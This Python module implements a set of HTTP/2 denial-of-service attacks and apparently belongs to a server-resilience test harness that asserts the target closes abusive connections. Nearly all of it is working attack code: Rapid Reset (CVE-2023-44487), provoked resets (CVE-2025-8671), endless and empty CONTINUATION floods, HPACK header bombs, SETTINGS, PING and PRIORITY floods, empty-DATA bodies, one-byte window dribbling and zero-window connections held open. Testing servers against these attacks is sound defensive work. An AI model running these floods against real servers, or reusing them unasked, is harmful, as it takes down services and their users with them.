"""HTTP/2 frames that cost the server more than the client."""

import socket
import time
from collections import Counter

from attacking import Outcome, Target, connect, read_to_end
from attacks_http1 import UNREAD_BYTES_MAX
from attacks_slow import LATE_S, LONG
from http2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    asks,
    end_in,
    field,
    frame,
    frames_in,
    integer,
    remembered,
    request,
    reset,
    settings,
    window,
)

# As many as the server allows on one connection.
STREAMS = 100
UNREAD_CONNECTIONS = 40
UNREAD_PEERS = 2


def greet(target: Target, peer: int, **values: int) -> socket.socket:
    connection = connect(target, peer)
    connection.sendall(PREFACE + settings(**values) + frame(SETTINGS, ACK, 0))
    return connection


def flood(target: Target, seconds: float, begin: bytes, more: bytes, reads: bool = True) -> Outcome:
    """Sends the same bytes repeatedly, on one connection after the other. Counts the reasons for closing by kind."""
    outcome: Outcome = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with greet(target, outcome["connections"]) as connection:
            outcome["connections"] += 1
            heard, sent = pour(connection, begin, more, deadline, reads)
            outcome["KiB at most"] = max(outcome["KiB at most"], sent // 1024)
            outcome[end_in(heard) if heard is not None else "taken until the end"] += 1
    return outcome


def pour(connection: socket.socket, begin: bytes, more: bytes, deadline: float, reads: bool) -> tuple[bytes | None, int]:
    """Returns the last data of the server, or None if it never closed the connection, and the number of bytes sent."""
    heard = bytearray()
    sent = 0
    connection.setblocking(False)
    waiting = begin + more
    while time.monotonic() < deadline:
        try:
            count = connection.send(waiting)
            sent += count
            waiting = waiting[count:] or more
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            return bytes(heard) + read_to_end(connection, 1)[0], sent
        try:
            while reads and (piece := connection.recv(1 << 20)):
                # Only the last bytes matter.
                heard = heard[-65536:] + piece if len(heard) > 1 << 20 else heard + piece
            if reads:
                return bytes(heard), sent
        except BlockingIOError:
            pass
        except OSError:
            return bytes(heard), sent
    return None, sent


def in_one_breath(target: Target, seconds: float, rows: bytes, what: str) -> Outcome:
    """Sends all of this with a single write on each of several connections in turn. The server must close each of them."""
    outcome: Outcome = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with greet(target, outcome["connections"]) as connection:
            outcome["connections"] += 1
            try:
                connection.sendall(rows)
            except OSError:
                pass
            heard, closed = read_to_end(connection, 10)
            if not closed:
                raise AssertionError(f"{what}, and the connection stays open")
            outcome[end_in(heard)] += 1
    return outcome


def rapid_reset(target: Target, seconds: float) -> Outcome:
    """Requests that are reset immediately, ten thousand in a row (CVE-2023-44487)."""
    paths = [LONG.format(key=target.key, number=f"reset-{number}") for number in range(100)]
    rows = b"".join(request(1 + 2 * number, paths[number % 100]) + reset(1 + 2 * number) for number in range(10_000))
    return in_one_breath(target, seconds, rows, "ten thousand requests are reset at once")


def paced_reset(target: Target, seconds: float) -> Outcome:
    """Requests that are reset after the server has begun their responses."""
    outcome: Outcome = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with greet(target, outcome["connections"]) as connection:
            outcome["connections"] += 1
            try:
                for turn in range(1000):
                    streams = [1 + 2 * (turn * 20 + number) for number in range(20)]
                    connection.sendall(
                        b"".join(request(stream, LONG.format(key=target.key, number=f"paced-{time.time_ns()}")) for stream in streams)
                    )
                    time.sleep(0.01)
                    connection.sendall(b"".join(map(reset, streams)))
                    outcome["requests"] += len(streams)
                    if time.monotonic() > deadline:
                        outcome["until the end"] += 1
                        break
            except OSError:
                outcome["closed"] += 1
    return outcome


def provoked_resets(target: Target, seconds: float) -> Outcome:
    """Requests that the server must reset because their windows are made too large (CVE-2025-8671)."""
    path = LONG.format(key=target.key, number="provoked")
    rows = b"".join(
        request(1 + 2 * number, path) + window(1 + 2 * number, 0x7FFFFFFF) + window(1 + 2 * number, 0x7FFFFFFF) for number in range(10_000)
    )
    return in_one_breath(target, seconds, rows, "ten thousand resets are provoked")


def endless_continuation(target: Target, seconds: float) -> Outcome:
    begin = frame(HEADERS, END_STREAM, 1, asks("/healthz"))
    return ended(flood(target, seconds, begin, frame(CONTINUATION, 0, 1, field("x", "y" * 1000) * 16)))


def empty_continuations(target: Target, seconds: float) -> Outcome:
    begin = frame(HEADERS, END_STREAM, 1, asks("/healthz"))
    return ended(flood(target, seconds, begin, frame(CONTINUATION, 0, 1) * 1000))


def header_bomb(target: Target, seconds: float) -> Outcome:
    """One long field in the table and a thousand references to it, repeatedly: header sections that expand from 16 kB to 64
    MB."""
    outcome: Outcome = Counter()
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, asks("/healthz", "GET", remembered("x", "y" * 4000)))
    bomb = integer(62, 7, 0x80) * (FRAME_BYTES_MAX - 100)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with greet(target, outcome["connections"]) as connection:
            outcome["connections"] += 1
            try:
                connection.sendall(first)
                for number in range(1, 50):
                    connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, asks("/healthz", "GET", bomb)))
            except OSError:
                pass
            heard, _ = read_to_end(connection, 0.5)
            responses = sum(kind == HEADERS for kind, *_ in frames_in(heard))
            outcome["bombs"] += 49
            outcome["responses"] += responses
    return outcome


def table_resizes(target: Target, seconds: float) -> Outcome:
    """The size of the table is changed a thousand times in one header block."""
    block = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 4000
    return flood(target, seconds, b"", frame(HEADERS, END_HEADERS | END_STREAM, 1, block + asks("/healthz")))


def settings_flood(target: Target, seconds: float) -> Outcome:
    return ended(flood(target, seconds, b"", settings(initial_window_size=65535) * 1000, reads=False))


def ping_flood(target: Target, seconds: float) -> Outcome:
    return ended(flood(target, seconds, b"", frame(PING, 0, 0, b"12345678") * 1000, reads=False))


def priority_flood(target: Target, seconds: float) -> Outcome:
    return flood(target, seconds, b"", b"".join(frame(PRIORITY, 0, 1 + 2 * number, b"\0\0\0\0\x10") for number in range(1000)))


def empty_data(target: Target, seconds: float) -> Outcome:
    """A body of empty DATA frames (CVE-2019-9518)."""
    begin = frame(HEADERS, END_HEADERS, 1, asks("/ghost/api/admin/session/", "POST"))
    return flood(target, seconds, begin, frame(DATA, 0, 1) * 1000)


def window_dribble(target: Target, seconds: float) -> Outcome:
    """A long response with windows of one byte (CVE-2019-9511)."""
    path = LONG.format(key=target.key, number="dribble")
    outcome: Outcome = Counter()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with greet(target, outcome["connections"], initial_window_size=0) as connection:
            outcome["connections"] += 1
            try:
                connection.sendall(b"".join(request(1 + 2 * number, path) for number in range(STREAMS)))
                while time.monotonic() < deadline:
                    connection.sendall(b"".join(window(1 + 2 * number, 1) for number in range(STREAMS)) * 10)
                    connection.recv(1 << 20)
            except OSError:
                outcome["closed"] += 1
    return outcome


def never_reading(target: Target, _seconds: float) -> Outcome:
    """Requests a hundred long uncached responses on each of forty connections, with windows of zero."""
    before = target.open_files()
    connections = []
    for number in range(UNREAD_CONNECTIONS):
        connection = greet(target, number % UNREAD_PEERS, initial_window_size=0)
        name = f"{time.time_ns()}-{number}"
        connection.sendall(
            b"".join(request(1 + 2 * stream, LONG.format(key=target.key, number=f"{name}-{stream}")) for stream in range(STREAMS))
        )
        connections.append(connection)
    target.wait_until_left(before, 10 + max(target.write_s, target.idle_s) + 10 + LATE_S)
    return Counter(closed=len(connections), requests=STREAMS * len(connections))


def ended(outcome: Outcome) -> Outcome:
    if outcome["KiB at most"] > UNREAD_BYTES_MAX >> 10:
        raise AssertionError(f"something endless is accepted: {dict(outcome)}")
    return outcome


ATTACKS = {
    "HTTP/2: requests reset at once": rapid_reset,
    "HTTP/2: requests reset a moment later": paced_reset,
    "HTTP/2: resets that the server is made to send": provoked_resets,
    "HTTP/2: CONTINUATION without end": endless_continuation,
    "HTTP/2: empty CONTINUATION": empty_continuations,
    "HTTP/2: bombs of header fields": header_bomb,
    "HTTP/2: sizes of the table": table_resizes,
    "HTTP/2: SETTINGS, responses unread": settings_flood,
    "HTTP/2: PING, responses unread": ping_flood,
    "HTTP/2: PRIORITY": priority_flood,
    "HTTP/2: a body of nothing": empty_data,
    "HTTP/2: a window of a byte": window_dribble,
    "HTTP/2: responses without a window, 40 times 100": never_reading,
}
